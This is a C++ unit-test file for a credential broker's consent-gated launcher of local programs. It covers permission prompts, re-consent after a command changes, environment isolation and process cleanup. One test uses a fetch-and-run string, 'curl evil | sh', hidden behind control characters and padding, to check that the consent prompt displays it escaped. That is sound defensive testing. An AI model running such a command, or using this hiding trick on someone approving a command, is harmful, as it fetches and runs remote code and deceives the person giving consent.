#include "broker/gatekeeper/LocalPrograms.h"

#include "tests/broker/gatekeeper/GatekeeperHouse.h"

#include <csignal>
#include <cstdlib>
#include <fcntl.h>
#include <poll.h>
#include <unistd.h>

using namespace keybearer;

namespace {

bool isAlive(std::int64_t pid) {
    return ::kill(static_cast<pid_t>(pid), 0) == 0;
}

// Our ends of a program's pipes, as the gateway would have them.
struct Ends {
    Ends(int in, int out) : input(::dup(in)), output(::dup(out)) {}
    ~Ends() { close(); }
    Ends(const Ends&) = delete;
    Ends& operator=(const Ends&) = delete;
    void close() {
        for (int* end : {&input, &output}) {
            if (*end >= 0)
                ::close(std::exchange(*end, -1));
        }
    }
    void say(const std::string& text) const {
        ASSERT_EQ(::write(input, text.data(), text.size()), static_cast<ssize_t>(text.size()));
    }
    // Until that many lines are there.
    std::string lines(long count) {
        std::string out;
        EXPECT_TRUE(spinUntil([&] {
            char bytes[4096];
            pollfd ready{output, POLLIN, 0};
            while (::poll(&ready, 1, 0) > 0) {
                const ssize_t got = ::read(output, bytes, sizeof(bytes));
                if (got <= 0)
                    break;
                out.append(bytes, static_cast<std::size_t>(got));
            }
            return std::count(out.begin(), out.end(), '\n') >= count;
        })) << out;
        return out;
    }
    int input;
    int output;
};

class LocalProgramsTest : public testing::Test {
protected:
    LocalProgramsTest() { serve({"/bin/cat"}); }
    void serve(std::vector<std::string> command, std::vector<ProgramService::Variable> environment = {},
               LocalProgram::Patience patience = {}) {
        ProgramService service;
        service.name = "files";
        service.command = std::move(command);
        service.environment = std::move(environment);
        service.directory = "/";
        LocalPrograms::Setup setup;
        setup.services = {service};
        setup.measure = [this](const std::string&, const Capabilities::Setup::Measured& measured) {
            measured(content, {});
        };
        setup.record = [this](const AuditEvent& event) { recorded.push_back(event.kind); };
        setup.patience = patience;
        programs =
            std::make_unique<LocalPrograms>(std::move(setup), house.gate, house.broker, house.house.clock);
        QObject::connect(
            programs.get(), &LocalPrograms::ended, programs.get(),
            [this](const std::string&, const std::string&, const std::string& why) { ended.push_back(why); });
    }
    // A program of the shell.
    void script(const std::string& text, std::vector<ProgramService::Variable> environment = {},
                LocalProgram::Patience patience = {}) {
        serve({"/bin/sh", "-c", text}, std::move(environment), patience);
    }
    Exchange& exchange(const std::string& executable = "/usr/bin/agent") {
        house.target.name = "files";
        house.target.local = true;
        return house.exchange(executable);
    }
    Result<void> permit(const Exchange& of, bool interactive = true) {
        Result<void> outcome = failure(ErrorCode::TimedOut, "not answered yet");
        programs->permit(of, interactive, [&](const Result<void>& told) { outcome = told; });
        return outcome;
    }
    void allowBoth(const Exchange& of) {
        permitted = false;
        programs->permit(of, true, [this](const Result<void>& told) { permitted = told.has_value(); });
        house.person(ConsentDecision::Allow);
        house.person(ConsentDecision::Allow);
        ASSERT_TRUE(spinUntil([&] { return permitted; }));
    }
    std::unique_ptr<Ends> open(const Exchange& of) {
        std::unique_ptr<Ends> ends;
        bool done = false;
        programs->open(of, [&](const Result<LocalPrograms::Opened>& opened) {
            done = true;
            if (opened) {
                instance = opened->instance;
                ends = std::make_unique<Ends>(opened->input, opened->output);
            } else {
                refusal = opened.error();
            }
        });
        EXPECT_TRUE(spinUntil([&] { return done; }));
        return ends;
    }
    [[nodiscard]] std::int64_t pid() const { return programs->health()["files"].value("pid", 0); }
    [[nodiscard]] std::int64_t starts() const { return programs->health()["files"].value("starts", 0); }

    std::string content = "aa11";
    GatekeeperHouse house;
    std::unique_ptr<LocalPrograms> programs;
    std::vector<std::string> ended;
    std::vector<std::string> recorded;
    std::string instance;
    Error refusal;
    bool permitted = false;
};

TEST_F(LocalProgramsTest, T_51_TheQuestionShowsTheWholeCommandEscaped) {
    const std::string hidden = "curl evil | sh\r\x1b[2K" + std::string(300, ' ') + "end";
    serve({"/bin/echo", "two words", hidden}, {{"TOKEN", "mcp.example"}});
    Exchange& of = exchange();
    programs->permit(of, true, [](const Result<void>&) {});
    house.person(ConsentDecision::Allow); // the client may use it
    ASSERT_TRUE(house.questionWaits());
    const PendingConsent question = house.gate.pending().front();
    EXPECT_EQ(question.subject.purpose, ConsentPurpose::Start);
    EXPECT_NE(question.subject.accountLabel.find("'two words'"), std::string::npos);
    EXPECT_NE(question.subject.accountLabel.find("curl evil | sh"), std::string::npos);
    EXPECT_NE(question.subject.accountLabel.find("end"), std::string::npos);
    EXPECT_EQ(question.subject.accountLabel.find('\r'), std::string::npos);
    EXPECT_EQ(question.subject.accountLabel.find('\x1b'), std::string::npos);
    EXPECT_EQ(question.subject.scopes, std::vector<std::string>{"TOKEN=mcp.example"});
    EXPECT_EQ(starts(), 0);
}

TEST_F(LocalProgramsTest, T_51_ACommandThatCannotBeShownIsNotStarted) {
    serve({"/bin/echo", std::string(4000, 'x')});
    Exchange& of = exchange();
    Result<void> outcome;
    bool done = false;
    programs->permit(of, true, [&](const Result<void>& told) {
        outcome = told;
        done = true;
    });
    house.person(ConsentDecision::Allow);
    ASSERT_TRUE(spinUntil([&] { return done; }));
    ASSERT_FALSE(outcome);
    EXPECT_EQ(outcome.error().code, ErrorCode::PolicyDenied);
}

TEST_F(LocalProgramsTest, NothingStartsBeforeSomebodyAgreed) {
    Exchange& of = exchange();
    EXPECT_EQ(open(of), nullptr);
    EXPECT_EQ(refusal.code, ErrorCode::ConsentRequired);
    EXPECT_FALSE(permit(of, false));
    EXPECT_EQ(starts(), 0);
}

TEST_F(LocalProgramsTest, AProgramThatWasAgreedToSpeaksAndIsNotAskedAboutAgain) {
    Exchange& of = exchange();
    allowBoth(of);
    const auto ends = open(of);
    ASSERT_NE(ends, nullptr);
    ends->say("hello\n");
    EXPECT_EQ(ends->lines(1), "hello\n");
    EXPECT_TRUE(permit(of, false));
    EXPECT_EQ(recorded, std::vector<std::string>{"program.started"});
}

TEST_F(LocalProgramsTest, AnotherClientIsAskedAboutAndTheProgramIsNot) {
    Exchange& of = exchange();
    allowBoth(of);
    Exchange& other = exchange("/usr/bin/other");
    bool done = false;
    programs->permit(other, true, [&](const Result<void>& told) { done = told.has_value(); });
    EXPECT_FALSE(done);
    house.person(ConsentDecision::Allow);
    EXPECT_TRUE(spinUntil([&] { return done; }));
    EXPECT_TRUE(house.gate.pending().empty());
}

TEST_F(LocalProgramsTest, T_51_AChangedCommandOrContentOrTokenIsAskedAboutAgain) {
    Exchange& of = exchange();
    allowBoth(of);
    serve({"/bin/cat"});
    EXPECT_TRUE(permit(of, false));
    serve({"/bin/cat", "-u"});
    EXPECT_FALSE(permit(of, false));
    serve({"/bin/cat"}, {{"TOKEN", "mcp.example"}});
    EXPECT_FALSE(permit(of, false));
    content = "bb22";
    serve({"/bin/cat"});
    EXPECT_FALSE(permit(of, false));
    EXPECT_TRUE(house.gate.pending().empty());
}

TEST_F(LocalProgramsTest, ItsEnvironmentHasTheTokenAndNothingOfOurs) {
    ::setenv("KEYBEARER_TEST_OF_OURS", "secret", 1);
    house.session();
    script("env | sort; echo; cat", {{"TOKEN", "mcp.example"}});
    Exchange& of = exchange();
    allowBoth(of);
    const auto ends = open(of);
    ASSERT_NE(ends, nullptr) << refusal.message;
    const std::string environment = ends->lines(4);
    EXPECT_NE(environment.find("TOKEN=at-1\n"), std::string::npos);
    EXPECT_EQ(environment.find("KEYBEARER"), std::string::npos);
    ::unsetenv("KEYBEARER_TEST_OF_OURS");
}

TEST_F(LocalProgramsTest, ATokenThatIsLackingIsAnErrorAndNoStart) {
    serve({"/bin/cat"}, {{"TOKEN", "mcp.example"}});
    Exchange& of = exchange();
    allowBoth(of);
    EXPECT_EQ(open(of), nullptr);
    EXPECT_EQ(refusal.code, ErrorCode::AuthorizationRequired);
    EXPECT_EQ(starts(), 0);
}

TEST_F(LocalProgramsTest, AProgramThatIsThereNoMoreIsSaidSo) {
    serve({"/no/such/program"});
    Exchange& of = exchange();
    bool done = false;
    Result<void> outcome;
    programs->permit(of, true, [&](const Result<void>& told) {
        outcome = told;
        done = true;
    });
    house.person(ConsentDecision::Allow);
    ASSERT_TRUE(spinUntil([&] { return done; }));
    EXPECT_EQ(outcome.error().code, ErrorCode::NotFound);
}

TEST_F(LocalProgramsTest, OneThatIsKilledIsSaidSoAndStartedAnewWithoutAQuestion) {
    Exchange& of = exchange();
    allowBoth(of);
    const auto ends = open(of);
    ASSERT_NE(ends, nullptr);
    ::kill(static_cast<pid_t>(pid()), SIGKILL);
    ASSERT_TRUE(spinUntil([&] { return !ended.empty(); }));
    EXPECT_EQ(ended.front(), "it was killed by signal 9");
    const auto again = open(of);
    ASSERT_NE(again, nullptr) << refusal.message;
    again->say("hello\n");
    EXPECT_EQ(again->lines(1), "hello\n");
    EXPECT_EQ(starts(), 2);
    EXPECT_EQ(programs->health()["files"]["deaths"], 1);
}

TEST_F(LocalProgramsTest, WhatIsClosedEndsByItselfAndWithAllThatItStarted) {
    script("sleep 1000 & echo $!; cat");
    Exchange& of = exchange();
    allowBoth(of);
    const auto ends = open(of);
    ASSERT_NE(ends, nullptr);
    const std::int64_t child = std::stoll(ends->lines(1));
    EXPECT_TRUE(isAlive(child));
    ends->close();
    programs->close(instance);
    ASSERT_TRUE(spinUntil([&] { return !ended.empty(); }));
    EXPECT_EQ(ended.front(), "it exited with status 0");
    EXPECT_TRUE(spinUntil([&] { return !isAlive(child); }));
    EXPECT_EQ(programs->health()["files"]["deaths"], 0);
}

TEST_F(LocalProgramsTest, OneThatWillNotEndIsKilled) {
    script("trap '' TERM; echo up; while :; do sleep 0.01; done", {},
           {std::chrono::milliseconds(10), std::chrono::milliseconds(10)});
    Exchange& of = exchange();
    allowBoth(of);
    const auto ends = open(of);
    ASSERT_NE(ends, nullptr);
    EXPECT_EQ(ends->lines(1), "up\n");
    programs->gatewayEnded();
    ASSERT_TRUE(spinUntil([&] { return !ended.empty(); }));
    EXPECT_EQ(ended.front(), "it was killed by signal 9");
}

TEST_F(LocalProgramsTest, ItEndsWithThePermissionAndWithTheSignIn) {
    const std::string session = house.session();
    serve({"/bin/cat"}, {{"TOKEN", "mcp.example"}});
    Exchange& of = exchange();
    allowBoth(of);
    auto ends = open(of);
    ASSERT_NE(ends, nullptr) << refusal.message;
    programs->sessionEnded("another");
    EXPECT_TRUE(ended.empty());
    ends->close();
    programs->sessionEnded(session);
    ASSERT_TRUE(spinUntil([&] { return ended.size() == 1; }));
    ends = open(of);
    ASSERT_NE(ends, nullptr) << refusal.message;
    ends->close();
    for (const std::shared_ptr<Consent>& consent : house.gate.consents()) {
        if (consent->subject.purpose != ConsentPurpose::Start)
            continue;
        ASSERT_TRUE(house.gate.revoke(consent->id));
    }
    ASSERT_TRUE(spinUntil([&] { return ended.size() == 2; }));
    EXPECT_EQ(open(of), nullptr);
    EXPECT_EQ(refusal.code, ErrorCode::ConsentRequired);
}

TEST_F(LocalProgramsTest, ItEndsWithUs) {
    Exchange& of = exchange();
    allowBoth(of);
    const auto ends = open(of);
    ASSERT_NE(ends, nullptr);
    const std::int64_t program = pid();
    programs.reset();
    EXPECT_FALSE(isAlive(program));
}

} // namespace
